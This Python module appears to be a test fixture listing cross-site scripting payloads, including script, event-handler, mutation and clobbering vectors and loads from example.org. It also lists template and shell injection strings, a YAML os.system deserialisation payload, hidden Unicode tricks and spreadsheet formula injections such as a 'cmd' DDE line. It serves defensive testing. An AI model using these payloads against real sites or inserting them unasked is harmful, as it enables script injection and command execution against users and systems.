"""Texts that would run, load or leak if a page let them; in this project `alert` is the proof.

Each is one idea of its own. Ideas are taken from the kinds of attack in the OWASP cross-site
scripting cheat sheets, and from ways past sanitisers that were published and mended.
"""

_RUNS_BY_TAG = (
    "<script>alert(1)</script>",
    "<script src=//example.org/x.js></script>",
    "<script type=module>import('https://example.org/x.js')</script>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    "<template><script>alert(1)</script></template>",
)
_RUNS_BY_EVENT = (
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<button onclick=alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video src='https://example.org/x' onerror=alert(1)></video>",
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
)
_RUNS_BY_ADDRESS = (
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#x6a;av&Tab;ascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
)
_LOADS = (
    "<a href='https://example.org/' ping='https://example.org/'>x</a>",
    "<img src='https://example.org/x.png'>",
    "<img srcset='//example.org/x.png 1x' alt=x>",
    "<link rel=stylesheet href=https://example.org/x.css>",
    "<meta http-equiv=refresh content='0;url=https://example.org'>",
    "<base href='https://example.org/'>",
    "<object data='https://example.org/x'></object>",
    "<embed src='https://example.org/x'>",
    "<form action='https://example.org/'><input name=q></form>",
)
_STYLES = (
    "<style>body{background:url(https://example.org/)}</style>",
    "<style>@import 'https://example.org/x.css';</style>",
    "<p style='background:url(https://example.org/)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
)
_PICTURES = (
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><use href='https://example.org/x.svg#a'/></svg>",
    "<svg><foreignObject><iframe src=//example.org></iframe></foreignObject></svg>",
)
# Parsed once they mean one thing, written out and parsed again another.
_MUTATES = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>",
)
_BREAKS_OUT = (
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    '"><script>alert(1)</script>',
    '"}</script><script>alert(1)</script>{"',
    "</table></main></body><h1>Board approved</h1><plaintext>",
    "<textarea><!--",
)
_CLOBBERS = (
    "<a id=content name=getElementById href=//example.org>x</a>",
    "<form id=forms><input id=attributes name=nodeName></form>",
)
# Inert as HTML: they wait for a template, a renderer, or for being unescaped once too often.
INERT = (
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "{{ 7 * 7 }}{% raw %}",
    "{trust_dir}${HOME}$(id)%(name)s{0.__class__}",
    "[x](javascript:alert(1)) ![y](https://example.org/y.png)",
    "$$\\href{javascript:alert(1)}{\\unicode{x}}$$ $\\frac{1}",
    "&lt;script&gt;alert(1)&lt;/script&gt; %3Cscript%3E",
    "!!python/object/apply:os.system ['id'] # &a *a",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u202fZ" + "\u0336" * 20,
    "W" * 110,
)
PAYLOADS = (
    _RUNS_BY_TAG + _RUNS_BY_EVENT + _RUNS_BY_ADDRESS + _LOADS + _STYLES + _PICTURES + _MUTATES
    + _BREAKS_OUT + _CLOBBERS + INERT
)  # fmt: skip

# Characters nobody sees, which turn words around, hide in them, or end a text for whoever reads it.
UNSEEN = (
    "Alder\u202eloohcS",
    "Al\u200bder School",
    "Alder \u2067School",
    "Alder\x00School",
    "Alder\x1bSchool",
    "Alder\ufffeSchool",
    "Alder\U000e0041School",
    "Alder\u2028School",
)

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://example.org")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
)
